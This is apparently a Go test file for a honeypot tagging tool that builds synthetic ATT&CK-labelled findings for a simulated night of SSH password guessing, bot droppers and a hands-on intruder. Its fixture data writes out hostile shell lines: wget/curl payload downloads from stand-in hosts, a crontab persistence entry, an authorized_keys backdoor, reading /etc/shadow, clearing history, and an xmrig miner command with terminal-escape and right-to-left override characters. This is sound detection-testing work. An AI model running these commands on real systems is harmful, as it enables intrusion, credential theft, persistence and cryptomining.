package projections_test

import (
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"
	"pgregory.net/rapid"

	"github.com/ttpstream/ttpstream/schemas"
	"github.com/ttpstream/ttpstream/schemas/attack"
)

var update = flag.Bool("update", false, "rewrite golden files")

// golden compares got with a file under testdata, or rewrites it.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got); rewrite it with -update:\n%s", path, diff)
	}
}

func catalogue(tb rapid.TB) *attack.Catalogue {
	tb.Helper()
	c, err := attack.Release("")
	if err != nil {
		tb.Fatal(err)
	}
	return c
}

// finding is a tag in few words; the zero value of a field has a default.
type finding struct {
	source     string // distinguishes events
	address    string
	session    string
	tactic     string
	technique  string // most specific id
	confidence float64
	rule       string
	at         time.Time
	tokens     []string
	evidence   schemas.Evidence
	kind       schemas.SourceKind
}

var start = time.Date(2026, 3, 14, 1, 59, 26, 535897932, time.UTC)

func (f finding) tag(tb rapid.TB) *schemas.Tag {
	tb.Helper()
	if f.evidence == nil {
		evidence := &schemas.CommandEvidence{}
		for _, token := range f.tokens {
			evidence.MatchedTokens = append(evidence.MatchedTokens, schemas.Token{Field: "cmd.line", Text: token})
		}
		f.kind, f.evidence = schemas.KindCommand, evidence
	}
	if f.at.IsZero() {
		f.at = start
	}
	fields := schemas.Tag{
		SourceKind: f.kind, SourceID: "event-" + f.source, SessionID: f.session, Sensor: "hp1", Tactic: f.tactic,
		Confidence: f.confidence, RuleID: f.rule, RuleVersion: 1, RuleHash: strings.Repeat("ab", 32),
		AttackRelease: attack.DefaultRelease, Evidence: f.evidence, CreatedAt: f.at,
	}
	fields.TechniqueID, _, _ = strings.Cut(f.technique, ".")
	if fields.TechniqueID != f.technique {
		fields.SubTechniqueID = f.technique
	}
	if f.address == "" {
		fields.IdentityUUID = uuid.MustParse("00000000-0000-5000-8000-000000000001")
	} else {
		fields.AttackerUUID = attackerID(f.address)
	}
	tag, err := schemas.NewTag(fields)
	if err != nil {
		tb.Fatal(err)
	}
	return tag
}

func attackerID(address string) uuid.UUID { return schemas.AttackerID(netip.MustParseAddr(address)) }

// night is what a honeypot sees in a night: a password guesser that gets in,
// two bots with a dropper and one person who looks around.
func night(tb rapid.TB) (tags []*schemas.Tag, address func(uuid.UUID) string) {
	tb.Helper()
	add := func(n int, f finding) {
		for i := range n {
			one := f
			one.source = fmt.Sprintf("%d/%d", len(tags), i)
			one.at = start.Add(time.Duration(len(tags)*97+i) * time.Second)
			if one.session != "" {
				one.session = fmt.Sprintf("%s%d", f.session, i%7)
			}
			tags = append(tags, one.tag(tb))
		}
	}
	guess := finding{
		tactic: "TA0006", technique: "T1110.001", confidence: 0.7, rule: "R0101", kind: schemas.KindAuthAttempt,
		evidence: &schemas.AuthEvidence{Protocol: "ssh", Method: "password"},
	}
	for i, ip := range []string{"198.51.100.23", "203.0.113.7", "192.0.2.140"} {
		guess.address, guess.session = ip, fmt.Sprintf("g%d", i)
		add(700>>i, guess)
	}
	letIn := guess
	letIn.address, letIn.session, letIn.evidence = "203.0.113.7", "g1", &schemas.AuthEvidence{Protocol: "ssh", Method: "password", Success: true}
	letIn.tactic, letIn.technique, letIn.confidence, letIn.rule = "TA0001", "T1078.001", 0.85, "R0102"
	add(3, letIn)
	for i, ip := range []string{"203.0.113.7", "192.0.2.140"} {
		s := fmt.Sprintf("b%d", i)
		url := fmt.Sprintf("http://203.0.113.%d/bins/x86", 200+i)
		add(40, finding{address: ip, session: s, tactic: "TA0011", technique: "T1105", confidence: 0.9, rule: "R0005", tokens: []string{"wget", url}})
		add(12, finding{address: ip, session: s, tactic: "TA0011", technique: "T1105", confidence: 0.9, rule: "R0006", tokens: []string{"curl", "-O", url}})
		add(35, finding{address: ip, session: s, tactic: "TA0002", technique: "T1059.004", confidence: 0.95, rule: "R0007", tokens: []string{"/bin/busybox sh", "sh"}})
		add(20, finding{address: ip, session: s, tactic: "TA0007", technique: "T1082", confidence: 0.55, rule: "R0010", tokens: []string{"uname -a"}})
		add(9, finding{address: ip, session: s, tactic: "TA0003", technique: "T1053.003", confidence: 0.92, rule: "R0012", tokens: []string{"crontab -", "* * * * * " + url}})
	}
	person := finding{address: "2001:db8:1234:5678::17", session: "p", confidence: 0.5, tactic: "TA0007"}
	for _, step := range []struct{ tactic, technique, rule, token string }{
		{"TA0007", "T1082", "R0010", "cat /proc/cpuinfo"},
		{"TA0007", "T1083", "R0015", "find / -perm -u=s -type f 2>/dev/null"},
		{"TA0007", "T1033", "R0011", "w"},
		{"TA0004", "T1548.001", "R0015", "find / -perm -u=s -type f 2>/dev/null"},
		{"TA0003", "T1098.004", "R0020", "echo ssh-ed25519 AAAAC3NzaC1 >> ~/.ssh/authorized_keys"},
		{"TA0006", "T1003.008", "R0021", "cat /etc/shadow"},
		{"TA0005", "T1070.003", "R0022", "unset HISTFILE; history -c"},
		{"TA0040", "T1496.001", "R0025", "./xmrig -o stratum+tcp://pool.example:3333 \x1b]0;owned\a\u202etxt.exe"},
	} {
		person.tactic, person.technique, person.rule, person.tokens = step.tactic, step.technique, step.rule, []string{step.token}
		person.confidence = min(person.confidence+0.07, 0.96)
		add(1, person)
	}
	add(2, finding{tactic: "TA0006", technique: "T1110.003", confidence: 0.8, rule: "R0104", kind: schemas.KindIdentityRollup,
		evidence: &schemas.IdentityEvidence{Counted: "networks", Threshold: 3}})
	known := map[uuid.UUID]string{}
	for _, ip := range []string{"198.51.100.23", "203.0.113.7", "192.0.2.140", "2001:db8:1234:5678::17"} {
		known[attackerID(ip)] = ip
	}
	return tags, func(id uuid.UUID) string { return known[id] }
}
